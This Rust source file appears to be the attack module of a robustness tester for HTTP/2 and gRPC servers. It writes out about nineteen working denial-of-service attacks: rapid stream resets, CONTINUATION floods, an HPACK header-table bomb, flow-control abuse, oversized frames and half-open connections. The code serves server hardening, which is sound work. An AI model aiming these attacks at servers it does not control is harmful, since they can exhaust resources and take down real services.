//! HTTP/2 as no honest caller speaks it: bytes on a connection, frame by frame (RFC 9113, and RFC 7541 for headers).

use crate::dice::Dice;
use std::io::{self, Read, Write};
use std::net::{Shutdown, TcpStream};
use std::time::Duration;

/// How long a server may leave bytes unread before the attack is over: it holds the caller off.
const HELD_OFF: Duration = Duration::from_millis(700);
/// How long an attack listens before it leaves.
const LISTEN: Duration = Duration::from_millis(100);
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// The largest payload of a frame that a server takes.
const PAYLOAD: usize = 16_384;

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RESET: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const WINDOW: u8 = 8;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// An attack: its name, and what it sends in about so many frames. An error is the server's defence.
pub type Attack = (&'static str, fn(&mut Line, &mut Dice, u32) -> io::Result<()>);

/// Every attack.
pub const ATTACKS: &[Attack] = &[
    ("settings that change for ever", settings),
    ("pings whose answers nobody reads", pings),
    ("streams that are opened and reset", resets),
    ("answers that are never let through", closed_windows),
    ("windows beyond every limit", open_windows),
    ("headers without an end", continuations),
    ("headers that continue with nothing", empty_continuations),
    ("data without bytes", empty_data),
    ("headers that grow when they are read", header_bomb),
    ("streams that are never finished", unfinished),
    ("frames that promise more than they hold", oversized),
    ("priorities, for nothing", priorities),
    ("frames of unknown kinds", unknown),
    ("farewells", farewells),
    ("headers of any bytes", any_headers),
    ("frames of any bytes", any_frames),
    ("messages longer than any", long_messages),
    ("other protocols", other_protocols),
    ("connections that are half open", half_open),
];

/// A connection to a server.
#[derive(Debug)]
pub struct Line {
    address: String,
    /// A method to call, as `/package.Service/Method`.
    path: String,
    stream: TcpStream,
}

impl Line {
    /// Connects.
    ///
    /// # Errors
    /// No server, or no place for another connection.
    pub fn open(address: &str, path: &str) -> io::Result<Self> {
        Ok(Self { address: address.to_owned(), path: path.to_owned(), stream: connect(address)? })
    }

    /// Speaks HTTP/2 from here on.
    fn preface(&mut self, settings: &[(u16, u32)]) -> io::Result<()> {
        self.write(PREFACE)?;
        self.settings(settings)
    }

    fn settings(&mut self, settings: &[(u16, u32)]) -> io::Result<()> {
        let pair = |(name, value): &(u16, u32)| [&name.to_be_bytes()[..], &value.to_be_bytes()].concat();
        let payload: Vec<u8> = settings.iter().flat_map(pair).collect();
        self.frame(SETTINGS, 0, 0, &payload)
    }

    fn frame(&mut self, kind: u8, flags: u8, stream: u32, payload: &[u8]) -> io::Result<()> {
        self.frame_that_claims(payload.len() as u32, kind, flags, stream, payload)
    }

    fn frame_that_claims(
        &mut self,
        length: u32,
        kind: u8,
        flags: u8,
        stream: u32,
        payload: &[u8],
    ) -> io::Result<()> {
        let [_, length @ ..] = length.to_be_bytes();
        let head = [&length[..], &[kind, flags], &stream.to_be_bytes()].concat();
        self.write(&[head.as_slice(), payload].concat())
    }

    /// Opens a stream with a call of the method.
    fn call(&mut self, stream: u32, flags: u8) -> io::Result<()> {
        let block = call_headers(&self.path);
        self.frame(HEADERS, END_HEADERS | flags, stream, &block)
    }

    /// Makes so many calls with `message` and lets no byte of their answers through, for as long as the line is kept.
    ///
    /// # Errors
    /// The server closes the connection.
    pub fn ask_and_read_nothing(&mut self, message: &[u8], calls: u32) -> io::Result<()> {
        self.preface(&[(4, 0)])?;
        let mut body = vec![0];
        body.extend((message.len() as u32).to_be_bytes());
        body.extend(message);
        for number in 0..calls {
            self.call(stream(number), 0)?;
            for part in body.chunks(PAYLOAD) {
                self.frame(DATA, 0, stream(number), part)?;
            }
            self.frame(DATA, END_STREAM, stream(number), &[])?;
        }
        Ok(())
    }

    /// A whole call with an empty message.
    fn whole_call(&mut self, stream: u32) -> io::Result<()> {
        self.call(stream, 0)?;
        self.frame(DATA, END_STREAM, stream, &[0; 5])
    }

    fn write(&mut self, bytes: &[u8]) -> io::Result<()> {
        self.stream.write_all(bytes)
    }

    /// Hears what the server says to it, for a moment.
    pub fn listen(&mut self) {
        let mut buffer = [0; 4096];
        while matches!(self.stream.read(&mut buffer), Ok(count) if count > 0) {}
    }
}

fn connect(address: &str) -> io::Result<TcpStream> {
    let stream = TcpStream::connect(address)?;
    stream.set_write_timeout(Some(HELD_OFF))?;
    stream.set_read_timeout(Some(LISTEN))?;
    Ok(stream)
}

/// The number of the `count`-th stream of a caller.
fn stream(count: u32) -> u32 {
    count.wrapping_mul(2).wrapping_add(1) & 0x7fff_ffff
}

/// A length of headers: seven bits, then more.
fn put_length(block: &mut Vec<u8>, length: usize) {
    if length < 127 {
        return block.push(length as u8);
    }
    block.push(127);
    let mut rest = length - 127;
    while rest >= 128 {
        block.push(rest as u8 | 128);
        rest >>= 7;
    }
    block.push(rest as u8);
}

/// A header that no table remembers.
fn put_header(block: &mut Vec<u8>, name: &[u8], value: &[u8]) {
    block.push(0);
    put_length(block, name.len());
    block.extend(name);
    put_length(block, value.len());
    block.extend(value);
}

fn call_headers(path: &str) -> Vec<u8> {
    // `:method: POST` and `:scheme: http` of the static table; `:path` and `:authority` by its names.
    let mut block = vec![0x83, 0x86, 0x04];
    put_length(&mut block, path.len());
    block.extend(path.as_bytes());
    block.push(0x01);
    put_length(&mut block, 4);
    block.extend(b"test");
    put_header(&mut block, b"content-type", b"application/grpc");
    put_header(&mut block, b"te", b"trailers");
    block
}

fn settings(line: &mut Line, dice: &mut Dice, count: u32) -> io::Result<()> {
    line.preface(&[])?;
    for _ in 0..count {
        let window = dice.below(0x7fff_ffff) as u32;
        line.settings(&[(1, dice.below(70_000) as u32), (3, dice.below(500) as u32), (4, window)])?;
    }
    Ok(())
}

fn pings(line: &mut Line, dice: &mut Dice, count: u32) -> io::Result<()> {
    line.preface(&[])?;
    for _ in 0..count {
        let payload = dice.any().to_be_bytes();
        line.frame(PING, 0, 0, &payload)?;
    }
    Ok(())
}

fn resets(line: &mut Line, _: &mut Dice, count: u32) -> io::Result<()> {
    line.preface(&[])?;
    for number in 0..count {
        line.call(stream(number), 0)?;
        line.frame(RESET, 0, stream(number), &8_u32.to_be_bytes())?;
    }
    Ok(())
}

fn closed_windows(line: &mut Line, _: &mut Dice, count: u32) -> io::Result<()> {
    line.preface(&[(4, 0)])?;
    for number in 0..count.min(2_000) {
        line.whole_call(stream(number))?;
    }
    line.listen();
    Ok(())
}

fn open_windows(line: &mut Line, dice: &mut Dice, count: u32) -> io::Result<()> {
    line.preface(&[(4, 0x7fff_ffff)])?;
    for number in 0..count {
        line.whole_call(stream(number))?;
        let increments = [0, 1, 0x7fff_ffff, u32::MAX];
        let increment = dice.one_of(&increments).copied().unwrap_or(0);
        let which = if dice.happens(50) { 0 } else { stream(number) };
        line.frame(WINDOW, 0, which, &increment.to_be_bytes())?;
    }
    Ok(())
}

fn continuations(line: &mut Line, dice: &mut Dice, count: u32) -> io::Result<()> {
    line.preface(&[])?;
    line.frame(HEADERS, 0, 1, &call_headers(&line.path.clone()))?;
    for _ in 0..count {
        let mut block = Vec::new();
        put_header(&mut block, format!("x-{}", dice.any()).as_bytes(), &[b'x'; 8_000]);
        line.frame(CONTINUATION, 0, 1, &block)?;
    }
    Ok(())
}

fn empty_continuations(line: &mut Line, _: &mut Dice, count: u32) -> io::Result<()> {
    line.preface(&[])?;
    line.frame(HEADERS, 0, 1, &call_headers(&line.path.clone()))?;
    for _ in 0..count {
        line.frame(CONTINUATION, 0, 1, &[])?;
    }
    Ok(())
}

fn empty_data(line: &mut Line, _: &mut Dice, count: u32) -> io::Result<()> {
    line.preface(&[])?;
    line.call(1, 0)?;
    for _ in 0..count {
        line.frame(DATA, 0, 1, &[])?;
    }
    Ok(())
}

fn header_bomb(line: &mut Line, _: &mut Dice, count: u32) -> io::Result<()> {
    line.preface(&[])?;
    for number in 0..count.min(50) {
        let mut block = call_headers(&line.path.clone());
        // Into the table once, and out of it again and again.
        block.push(0x40);
        put_length(&mut block, 1);
        block.push(b'x');
        put_length(&mut block, 3_900);
        block.extend([b'x'; 3_900]);
        block.resize(PAYLOAD, 0xbe);
        line.frame(HEADERS, END_HEADERS | END_STREAM, stream(number), &block)?;
    }
    line.listen();
    Ok(())
}

fn unfinished(line: &mut Line, dice: &mut Dice, count: u32) -> io::Result<()> {
    line.preface(&[])?;
    for number in 0..count {
        line.call(stream(number), 0)?;
        let part = dice.bytes(3);
        line.frame(DATA, 0, stream(number), &part)?;
    }
    line.listen();
    Ok(())
}

fn oversized(line: &mut Line, dice: &mut Dice, count: u32) -> io::Result<()> {
    line.preface(&[(5, 0xff_ffff)])?;
    line.call(1, 0)?;
    for _ in 0..count {
        let (kind, length) = (dice.below(10) as u8, dice.below(0xff_ffff) as u32);
        line.frame_that_claims(length, kind, 0, 1, &[0; 100])?;
    }
    Ok(())
}

fn priorities(line: &mut Line, dice: &mut Dice, count: u32) -> io::Result<()> {
    line.preface(&[])?;
    for number in 0..count {
        let payload = dice.bytes(5);
        line.frame(PRIORITY, 0, stream(number), &payload)?;
    }
    Ok(())
}

fn unknown(line: &mut Line, dice: &mut Dice, count: u32) -> io::Result<()> {
    line.preface(&[])?;
    for _ in 0..count {
        let kind = 10 + dice.below(246) as u8;
        let payload = dice.bytes(64);
        line.frame(kind, dice.any() as u8, dice.below(9) as u32, &payload)?;
    }
    Ok(())
}

fn farewells(line: &mut Line, _: &mut Dice, count: u32) -> io::Result<()> {
    line.preface(&[])?;
    line.call(1, 0)?;
    for number in 0..count {
        line.frame(GOAWAY, 0, 0, &[(u32::MAX >> 1).wrapping_sub(number).to_be_bytes(), [0; 4]].concat())?;
    }
    Ok(())
}

fn any_headers(line: &mut Line, dice: &mut Dice, count: u32) -> io::Result<()> {
    line.preface(&[])?;
    for number in 0..count {
        let length = dice.place(60);
        let mut block = if dice.happens(50) { call_headers(&line.path.clone()) } else { Vec::new() };
        match dice.below(3) {
            0 => block.extend(dice.bytes(length)),
            1 => put_header(&mut block, b"grpc-timeout", &dice.bytes(length)),
            _ => put_header(&mut block, &dice.bytes(3), &dice.bytes(length)),
        }
        line.frame(HEADERS, END_HEADERS | END_STREAM, stream(number), &block)?;
    }
    line.listen();
    Ok(())
}

fn any_frames(line: &mut Line, dice: &mut Dice, count: u32) -> io::Result<()> {
    line.preface(&[])?;
    for number in 0..count {
        let length = dice.place(100);
        let payload = dice.bytes(length);
        line.frame(
            dice.below(11) as u8,
            dice.any() as u8,
            dice.below(2 + 2 * u64::from(number)) as u32,
            &payload,
        )?;
    }
    line.listen();
    Ok(())
}

fn long_messages(line: &mut Line, dice: &mut Dice, count: u32) -> io::Result<()> {
    line.preface(&[])?;
    for number in 0..count.min(200) {
        line.call(stream(number), 0)?;
        let lengths = [u32::MAX, 16 << 20, (16 << 20) + 1, 1 << 30];
        let length = dice.one_of(&lengths).copied().unwrap_or(u32::MAX);
        let prefix = [&[0][..], &length.to_be_bytes(), &[0; 1_000]].concat();
        line.frame(DATA, 0, stream(number), &prefix)?;
    }
    line.listen();
    Ok(())
}

fn other_protocols(line: &mut Line, dice: &mut Dice, count: u32) -> io::Result<()> {
    let hello = [0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3];
    let begun: [&[u8]; 5] = [
        b"GET / HTTP/1.1\r\nhost: test\r\nconnection: upgrade\r\nupgrade: h2c\r\n\r\n",
        b"POST /x HTTP/1.1\r\ntransfer-encoding: chunked\r\n\r\nffffffffffffffff\r\n",
        &hello,
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\r",
        b"SSH-2.0-x\r\n",
    ];
    for _ in 0..count.min(40) {
        let mut other = connect(&line.address)?;
        let begin = dice.one_of(&begun).copied().unwrap_or_default();
        // Whoever closes at once is not offended.
        let _ = other.write_all(begin);
        let _ = other.write_all(&dice.bytes(200));
    }
    Ok(())
}

fn half_open(line: &mut Line, dice: &mut Dice, count: u32) -> io::Result<()> {
    let mut open = Vec::new();
    for _ in 0..count.min(100) {
        let mut other = connect(&line.address)?;
        let _ = other.write_all(PREFACE.get(..dice.place(PREFACE.len())).unwrap_or_default());
        if dice.happens(50) {
            let _ = other.shutdown(Shutdown::Write);
        }
        open.push(other);
    }
    line.listen();
    Ok(())
}
